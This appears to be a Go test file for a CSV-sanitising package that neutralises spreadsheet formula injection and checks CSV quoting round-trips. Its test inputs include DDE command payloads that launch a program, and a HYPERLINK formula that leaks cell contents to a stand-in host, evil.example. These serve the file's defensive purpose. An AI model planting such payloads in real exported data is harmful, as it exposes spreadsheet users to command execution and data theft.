package csvsafe

import (
	"encoding/csv"
	"strings"
	"testing"
)

func TestCell(t *testing.T) {
	for in, want := range map[string]string{
		"Comune di Follonica":         "Comune di Follonica",
		"":                            "",
		`=HYPERLINK("http://x","y")`:  `'=HYPERLINK("http://x","y")`,
		"+cmd|' /C calc'!A0":          "'+cmd|' /C calc'!A0",
		"-2+3+cmd|' /C calc'!A0":      "'-2+3+cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1":                      "'\t=1+1",
		"\r=1+1":                      "'\r=1+1",
		"-3":                          "-3",
		"+1.5":                        "+1.5",
		"12":                          "12",
		"a=b":                         "a=b",
		"'already quoted":             "'already quoted",
		"Zona \"Pisana\", Toscana":    "Zona \"Pisana\", Toscana",
	} {
		if got := Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
}

// The written CSV reads back, through encoding/csv, as the neutralised cells: quoting stays
// correct for commas, quotes and line breaks.
func TestStringRoundTrip(t *testing.T) {
	rows := [][]string{
		{"zone", "count"},
		{`=HYPERLINK("http://evil.example/?leak="&A1,"click")`, "3"},
		{"Livorno, \"centro\"\nporto", "-1"},
	}
	out, err := String(rows)
	if err != nil {
		t.Fatal(err)
	}
	got, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("%v in %q", err, out)
	}
	if got[1][0] != `'=HYPERLINK("http://evil.example/?leak="&A1,"click")` || got[1][1] != "3" {
		t.Errorf("row 1 = %q", got[1])
	}
	if got[2][0] != "Livorno, \"centro\"\nporto" || got[2][1] != "-1" {
		t.Errorf("row 2 = %q", got[2])
	}
}

// Uncell reads back what Cell wrote, and leaves other cells alone.
func TestUncellReadsCellBack(t *testing.T) {
	for _, s := range []string{"=HYPERLINK(\"x\")", "+cmd", "-3", "@sum", "\tx", "plain", "'quoted", "", "'"} {
		if got := Uncell(Cell(s)); got != s {
			t.Errorf("Uncell(Cell(%q)) = %q", s, got)
		}
	}
}
